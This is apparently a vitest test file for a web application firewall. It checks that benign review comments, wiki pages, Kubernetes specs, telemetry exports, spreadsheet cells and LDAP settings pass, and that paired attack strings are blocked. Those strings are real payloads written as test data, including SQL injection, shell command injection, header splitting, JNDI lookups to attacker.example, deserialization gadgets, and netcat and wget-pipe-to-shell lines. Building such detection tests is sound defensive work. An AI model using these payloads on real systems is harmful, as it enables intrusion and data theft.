// Code-review comments, tickets and docs that name what they warn about: platform teams paste these
// into review APIs, issue trackers and wiki pages (JSON), comment forms and search boxes. Hand-written
// cases of families once blocked at paranoia 1, each beside the attacks its fix must keep blocking.
import { beforeAll, describe, expect, it } from "vitest";
import { loadHarness, type Harness } from "../support/harness.js";
import { inspect, inspectWith, type Req } from "../support/engine.js";

let h: Harness;
beforeAll(async () => {
  h = await loadHarness();
});

const json = (text: string): Req => ({ method: "POST", path: "/api/v4/projects/12/merge_requests/7/notes", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: JSON.stringify({ body: text, line: 42 }) });
const form = (text: string): Req => ({ method: "POST", path: "/tickets/31/comments", headers: [["host", "svc.local"], ["content-type", "application/x-www-form-urlencoded"]], body: new URLSearchParams({ author: "ann", comment: text }).toString() });
const search = (text: string): Req => ({ method: "GET", path: `/search?q=${encodeURIComponent(text)}`, headers: [["host", "svc.local"]] });
const CARRIERS = { json, form, search };

const verdict = (req: Req) => {
  const v = inspect(h, req);
  return { blocked: v.score >= 5, why: v.matches.map((m) => `${m.id}[${m.fragment}]`).join(" ") };
};

// A call's `(` followed by plain words and never closed: three bare words are no PHP or JS expression.
const CALL_PROSE = [
  "nit: exec( with user input is risky, please validate first",
  "Reviewer: exec( is called with untrusted input on line 42, please use execFile instead",
  "Please don't use eval( on request data.",
  "passthru( here runs a shell, so the quoting matters",
];
const CALL_ATTACKS = [
  "exec(ls -la",
  "system(cat /etc/passwd",
  ";system(id);",
  "passthru( whoami )",
  "exec( with user input )",
  "eval(atob('YWxlcnQoMSk='))",
  "x=1;eval(name)",
  "eval( String.fromCharCode(97,108) )",
];

describe.each(Object.entries(CARRIERS))("review prose in %s", (_, carrier) => {
  it.each(CALL_PROSE)("passes: %s", (text) => {
    const v = verdict(carrier(text));
    expect(v.blocked, v.why).toBe(false);
  });
  it.each(CALL_ATTACKS)("blocks: %s", (text) => {
    expect(verdict(carrier(text)).blocked).toBe(true);
  });
});

// Requests and headers quoted in a Markdown fenced block of a docs or wiki page (JSON page API).
const page = (text: string): Req => ({ method: "PUT", path: "/wiki/api/pages/http-basics", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: JSON.stringify({ title: "HTTP basics", body: text }) });
const FENCED = [
  "A minimal request looks like this:\n\n```http\nGET /index.html HTTP/1.1\nHost: www.example.com\nAccept: */*\n```\n\nThe server answers with a status line.",
  "Create an order:\n\n```\nPOST /api/v1/orders HTTP/1.1\nHost: orders.svc\nContent-Type: application/json\n\n{\"id\": 1}\n```\n",
  "Probe it by hand:\n~~~\nGET /healthz HTTP/1.1\r\nHost: api.payments.svc.cluster.local\r\n~~~\nthen check the logs.",
];
const UNFENCED = [
  "x\nSet-Cookie: admin=1",
  "See below\n```\nHost: a.example\n```\nSet-Cookie: admin=1", // after the block closes
  "See below\n```http\nGET / HTTP/1.1\nHost: a.example\n", // a fence never closed
  "```\n```\nGET /admin HTTP/1.1\r\nHost: internal\r\n\r\n",
  "foo HTTP/1.1\r\nHost: x\r\n\r\nGET /admin HTTP/1.1\r\nHost: y",
  "GET /index.html HTTP/1.1\nHost: www.example.com",
];

describe("HTTP quoted in a page's fenced code block", () => {
  it.each(FENCED)("passes: %j", (text) => {
    const v = verdict(page(text));
    expect(v.blocked, v.why).toBe(false);
  });
  it.each(UNFENCED)("blocks: %j", (text) => {
    expect(verdict(page(text)).blocked).toBe(true);
  });
  // A browser skips a response header line without a colon: a fence is no quotation in a value a
  // service may copy into a response header (a query, form or cookie value), only in a page's body.
  const splitting = "x\r\n```\r\nSet-Cookie: sess=evil\r\n```";
  it.each<[string, Req]>([
    ["a query", { path: `/login?next=${encodeURIComponent(splitting)}` }],
    ["a form", { method: "POST", path: "/login", headers: [["host", "svc.local"], ["content-type", "application/x-www-form-urlencoded"]], body: `user=a&next=${encodeURIComponent(splitting)}` }],
    ["a cookie", { headers: [["host", "svc.local"], ["cookie", `lang=${encodeURIComponent(splitting)}`]] }],
  ])("blocks a fenced header injection in %s", (_, req) => {
    expect(verdict(req).blocked).toBe(true);
  });
});

// An argv at the head of a JSON list (exec form: pod specs, admission reviews, Dockerfile JSON) runs no shell.
const kube = (body: object): Req => ({ method: "POST", path: "/validate", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: JSON.stringify(body) });
const review = (command: string[]) => kube({ apiVersion: "admission.k8s.io/v1", kind: "AdmissionReview", request: { uid: "7f0c", object: { kind: "Pod", spec: { containers: [{ name: "init", image: "busybox:1.36", command }] } } } });
const ARGV = [
  ["/bin/sh", "-c", "until nslookup db; do sleep 2; done"],
  ["/sbin/tini", "--", "/usr/local/bin/api", "--port=8080"],
  ["/bin/grpc_health_probe", "-addr=:9000"],
  ["/usr/bin/python3", "-m", "http.server", "8080"],
];

describe("argv lists in Kubernetes objects", () => {
  it.each(ARGV.map((a) => [a.join(" "), a] as const))("passes: %s", (_, argv) => {
    const v = verdict(review(argv));
    expect(v.blocked, v.why).toBe(false);
  });
  it.each([
    [{ cmd: "/bin/sh" }], // a whole value, not a list
    [{ command: ["/bin/s'h'", "-c", "x"] }], // spelled with shell quoting
    [{ command: ["/bin/sh -c id"] }], // a command line in one string
    [{ command: ["/bin/sh;id"] }],
    [{ items: ["a", "/bin/bash"] }], // not the list's head
    [{ command: ["/bin/sh", "-c", "cat /etc/passwd"] }],
    [{ exe: "/usr/local/bin/python -c 'import pty; pty.spawn(\"/bin/sh\")'" }], // a deep program path with arguments
    [{ exe: "/opt/java/openjdk/bin/java;id" }],
  ])("blocks: %j", (body) => {
    expect(verdict(kube(body)).blocked).toBe(true);
  });
});

// OTLP/JSON exports: spans with SQL statements, logs with Java stack traces (generated classes print `(File.java)`).
const attr = (key: string, value: string) => ({ key, value: { stringValue: value } });
const otlp = (attrs: { key: string; value: { stringValue: string } }[]): Req => ({
  method: "POST", path: "/v1/traces", headers: [["host", "otel-collector.observability"], ["content-type", "application/json"]],
  body: JSON.stringify({ resourceSpans: [{ resource: { attributes: [attr("service.name", "orders"), attr("k8s.pod.name", "orders-7d9f-abc")] }, scopeSpans: [{ scope: { name: "io.opentelemetry.jdbc" }, spans: [{ traceId: "5b8efff798038103d269b633813fc60c", spanId: "eee19b7ec3c1b174", name: "SELECT orders", kind: 3, attributes: attrs }] }] }] }),
});
const OTLP = [
  [attr("db.system", "postgresql"), attr("db.statement", "SELECT * FROM users WHERE id = ?"), attr("code.namespace", "com.example.UserRepository"), attr("thread.name", "http-nio-8080-exec-1")],
  [attr("db.system", "postgresql"), attr("db.statement", "SELECT o.id, SUM(i.price) FROM orders o JOIN items i ON i.order_id = o.id WHERE o.user_id = $1 GROUP BY o.id")],
  [attr("exception.type", "java.sql.SQLSyntaxErrorException"), attr("exception.stacktrace", "java.sql.SQLSyntaxErrorException: bad SQL\n\tat com.mysql.cj.jdbc.ClientPreparedStatement.executeQuery(ClientPreparedStatement.java:1009)\n\tat com.zaxxer.hikari.pool.HikariProxyPreparedStatement.executeQuery(HikariProxyPreparedStatement.java)\n\tat com.example.OrderRepository.find(OrderRepository.java:42)")],
  // resource attributes every SDK exports: their keys are values of `key`
  [attr("process.pid", "1"), attr("process.executable.path", "/opt/java/openjdk/bin/java"), attr("process.executable.name", "java"), attr("process.runtime.name", "OpenJDK Runtime Environment"), attr("process.runtime.version", "21.0.2+13-LTS"), attr("process.owner", "app"), attr("process.command", "node")],
];

// Statements a driver logs bind their values through placeholders (`?`, `$1`, `:name`): whatever the key.
const BOUND = [
  "SELECT count(*) FROM pg_stat_activity WHERE state = $1",
  "SELECT max(created_at) FROM orders WHERE user_id = ?",
  "SELECT count(*) FROM orders WHERE user_id = :uid AND deleted = false",
  "DELETE FROM sessions WHERE expires_at < :cutoff",
  "UPDATE users SET name = :name WHERE id = :id",
  "INSERT INTO audit (user_id, action) VALUES (:userId, :action)",
];
// ... and an injection written into such a statement, or one cut by a comment or followed by another.
const BOUND_ATTACKS = [
  "SELECT count(*) FROM users WHERE id = ? OR 1=1",
  "SELECT count(*) FROM users WHERE id = $1 UNION SELECT password FROM users",
  "SELECT count(*) FROM users WHERE id = ?; DROP TABLE users",
  "SELECT count(*) FROM users WHERE id = ? --",
  "/**/SELECT count(*) FROM users WHERE id = ?",
  "SELECT count(*) FROM users WHERE id = ? AND name = 'x",
  "SELECT sleep(5) FROM dual WHERE 1 = ?",
  "SELECT table_name FROM information_schema.tables WHERE table_schema = ?",
  "SELECT count(*) FROM users WHERE id = :id AND ascii(substring(password,1,1))>64",
  "DELETE FROM users WHERE id = :id OR 1=1",
  "UPDATE users SET role = 'admin' WHERE id = ? -- x",
  "SELECT count(*) FROM orders",
];

describe("OpenTelemetry exports", () => {
  it.each(BOUND)("passes a bound statement in db.statement and db.query.text: %s", (sql) => {
    for (const key of ["db.statement", "db.query.text"]) {
      const v = verdict(otlp([attr("db.system", "postgresql"), attr(key, sql)]));
      expect(v.blocked, v.why).toBe(false);
      expect(inspect(h, otlp([attr(key, sql)])).score, v.why).toBe(0);
    }
  });
  it.each(BOUND_ATTACKS)("blocks: %s", (sql) => {
    expect(verdict(otlp([attr("db.statement", sql)])).blocked).toBe(true);
    expect(verdict(search(sql)).blocked).toBe(true);
  });

  it.each(OTLP.map((a, i) => [i, a] as const))("passes: span %i", (_, attrs) => {
    const v = verdict(otlp(attrs));
    expect(v.blocked, v.why).toBe(false);
  });
  it.each([
    [{ "@type": "com.zaxxer.hikari.HikariConfig", metricRegistry: "ldap://attacker.example/a" }],
    [{ x: "com.zaxxer.hikari.HikariConfig" }],
    [{ x: "com.zaxxer.hikari.HikariConfig.setMetricRegistry(\"ldap://a.example/x\")" }],
    [{ key: "process.env" }],
    [{ key: "process.env.DATABASE_URL" }],
    [{ key: "process.mainModule" }],
  ])("blocks the gadget outside a frame, process internals: %j", (body) => {
    expect(verdict(kube(body)).blocked).toBe(true);
  });
});

// A `#` with text after it is a ticket number, not a comment ending an EXEC (T-SQL has no `#` comment);
// a parameter named with a SQL word (`user`, `sleep`) is a name the sender wrote, its value read alone.
describe("ticket prose and SQL words as parameter names", () => {
  it.each([
    ["a review request", search("Execute request #567: please review")],
    ["a job note", form("Execute job #12 tonight, then report")],
    ["a handout note in a user field", { path: `/events?user=${encodeURIComponent("(print 4*6 handouts for the meeting)")}` }],
    ["a count in a sleep field", { path: "/prefs?sleep=(5)" }],
  ] as [string, Req][])("passes: %s", (_, req) => {
    const v = verdict(req);
    expect(v.blocked, v.why).toBe(false);
  });
  it.each([
    search("exec xp_cmdshell #567: please review"),
    search("exec myproc #"),
    search("exec myproc -- please review"),
    search("Execute request #5"),
    { path: `/events?user=${encodeURIComponent("(select password from users)")}` },
    { path: `/x?${encodeURIComponent("if(now()=sysdate(),sleep(6),0)")}` },
    { path: `/x?${encodeURIComponent("'admin', '1'='1'")}` },
  ] as Req[])("blocks: %j", (req) => {
    expect(verdict(req).blocked).toBe(true);
  });
});

// A User-Agent of plain words after a word that is also a command (a phrase, a sentence) names no command line.
const ua = (value: string): Req => ({ path: "/", headers: [["host", "svc.local"], ["user-agent", value]] });
describe("User-Agents that open with a command word", () => {
  it.each(["echo chamber", "eval requests are queued", "watch party", "time keeper is ready"])("passes: %s", (text) => {
    const v = verdict(ua(text));
    expect(v.blocked, v.why).toBe(false);
  });
  it.each(["id", "sleep 5", "uname -a", "set -o vi", "knife node show", "whoami now", "nslookup attacker.example", "ping 10.0.0.7", "echo chamber; cat /etc/passwd"])("blocks: %s", (text) => {
    expect(verdict(ua(text)).blocked).toBe(true);
  });
});

// Spreadsheet cells posted as JSON or CSV: a formula opens the cell with `=`, which no SQL context takes before IF(.
const csv = (text: string): Req => ({ method: "POST", path: "/import", headers: [["host", "svc.local"], ["content-type", "text/csv"]], body: text });
describe("spreadsheet formulas", () => {
  it.each<[string, Req]>([
    ["a JSON cell", kube({ cells: [{ ref: "B6", formula: '=IF(A6>0,"yes","no")' }] })],
    ["a nested condition", kube({ formula: '=IF(AND(B2>=10,C2<5),"ok","check")' })],
    ["a CSV row", csv('name,total,flag\nann,4,=IF(B2>0,"yes","no")\n')],
  ])("passes: %s", (_, req) => {
    const v = verdict(req);
    expect(v.blocked, v.why).toBe(false);
  });
  it.each([
    kube({ v: "if(2>1,3,4)" }),
    kube({ v: "1=if(2>1,3,4)" }),
    kube({ v: "1 and if(length(user)>1,1,0)" }),
    kube({ v: "=if(1=1,sleep(5),0)" }),
    kube({ v: "=cmd|' /C calc'!A0" }),
    csv("name,total\nann,=if(1=1,sleep(5),0)\n"),
  ])("blocks: %j", (req) => {
    expect(verdict(req).blocked).toBe(true);
  });
});

// An identity provider's LDAP settings (Keycloak components): a directory server's address, nothing to look up.
const idp = (config: object): Req => ({ method: "POST", path: "/admin/realms/corp/components", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: JSON.stringify({ name: "corp-ldap", providerId: "ldap", providerType: "org.keycloak.storage.UserStorageProvider", config }) });
describe("LDAP connection URLs in identity-provider settings", () => {
  it.each([
    ["ldaps://ldap.corp.example:636"],
    ["ldap://ldap.corp.example"],
    ["ldap://ldap1.corp.example:389 ldap://ldap2.corp.example:389"],
  ])("passes: %s", (url) => {
    const v = verdict(idp({ connectionUrl: [url], usersDn: ["ou=People,dc=corp,dc=example"], bindDn: ["cn=svc-keycloak,ou=Services,dc=corp,dc=example"] }));
    expect(v.blocked, v.why).toBe(false);
  });
  it.each([
    "ldap://attacker.example:1389/Exploit",
    "ldap://attacker.example:1389/",
    "ldap://attacker.example:1389?cn",
    "${jndi:ldap://attacker.example:1389}",
    "${jndi:ldaps://attacker.example}",
    "ldap://127.0.0.1:389",
    "ldap://169.254.169.254:389",
    "see ldap://attacker.example:1389/o=x",
    "gopher://attacker.example:70",
  ])("blocks: %s", (url) => {
    expect(verdict(idp({ connectionUrl: [url] })).blocked).toBe(true);
    expect(verdict(search(url)).blocked).toBe(true);
  });
  it("blocks a gadget naming a bare directory address", () => {
    expect(verdict(kube({ "@type": "com.sun.rowset.JdbcRowSetImpl", dataSourceName: "ldap://attacker.example:1389", autoCommit: true })).blocked).toBe(true);
  });
});

// A migration API runs the SQL it is sent by design: the same statements after a breakout are a stacked
// injection, and no grammar tells the endpoint's intent. An exclusion scoped to its path and field does.
describe("SQL migrations posted to a migration API", () => {
  const migration = (sql: string): Req => ({ method: "POST", path: "/api/v1/migrations", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: JSON.stringify({ id: "20261129_orders_note", sql }) });
  const SCRIPTS = [
    "CREATE INDEX idx_orders_user ON orders(user_id);",
    "ALTER TABLE orders ADD COLUMN note text; CREATE INDEX idx_orders_note ON orders(note);",
  ];
  const EXCLUSION = "|sqli||/api/v1/migrations|POST|json:sql";
  it.each(SCRIPTS)("blocks without an exclusion: %s", (sql) => {
    expect(verdict(migration(sql)).blocked).toBe(true);
  });
  it.each(SCRIPTS)("passes with an exclusion of sqli for json:sql on the migration path: %s", (sql) => {
    expect(inspectWith(h, migration(sql), "", EXCLUSION).score).toBe(0);
  });
  it("still blocks a stacked query in another field or on another path", () => {
    const other: Req = { method: "POST", path: "/api/v1/migrations", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: JSON.stringify({ id: "1; DROP TABLE users", sql: "SELECT 1" }) };
    expect(inspectWith(h, other, "", EXCLUSION).score).toBeGreaterThanOrEqual(5);
    expect(inspectWith(h, { ...migration(SCRIPTS[1]), path: "/api/v1/orders" }, "", EXCLUSION).score).toBeGreaterThanOrEqual(5);
  });
});

// A Markdown table row (one line, `|` at both ends, two cells or more): its pipes are text, not pipelines.
describe("Markdown table rows", () => {
  it.each(["| users | /docs |", "| id | name |", "| users | 3 |", "| sort | date |"])("passes: %s", (text) => {
    for (const carrier of [json, search]) {
      const v = verdict(carrier(text));
      expect(v.blocked, v.why).toBe(false);
    }
  });
  it.each([
    "| id |", "| id", "| users | /docs", "| id || x |", "| id ; x |", "| id | x |\n| whoami |",
    "| whoami | nc attacker.example 4444 |", "| cat /etc/passwd | x |", "| wget http://a.example/x.sh -O /tmp/x | sh |", "| bash -i | x |",
  ])("blocks: %j", (text) => {
    expect(verdict(json(text)).blocked).toBe(true);
  });
});

// C and Go snippets: a double-quoted format string among bare names is no PHP call expression (9121);
// PHP passes `$variables`, and probes nest a dangerous call or break out of a quote.
const C_FORMAT = [
  'printf("%d\\n", x);',
  'int n = 3; printf("%d\\n", n);',
  'fprintf(stderr, "%s\\n", msg);',
  'fmt.Printf("%d\\n", x)',
  'we call system( "ls" ) in the wrapper',
  'we call system("ls") in the wrapper',
];
const C_FORMAT_ATTACKS = [
  "printf('%s', system('id'))",
  'printf("%s", system("id"));',
  "';printf(phpinfo());'",
  "<?php printf('%s', 1); ?>",
  'we call ;system("ls") in the wrapper',
  'system("ls") in the wrapper',
  "x';system('ls') in the wrapper",
];
describe("C and Go format strings", () => {
  for (const [name, carry] of Object.entries(CARRIERS)) {
    for (const t of C_FORMAT) it(`${name} passes ${t}`, () => expect(verdict(carry(t)).blocked, verdict(carry(t)).why).toBe(false));
    for (const t of C_FORMAT_ATTACKS) it(`${name} blocks ${t}`, () => expect(verdict(carry(t)).blocked).toBe(true));
  }
});
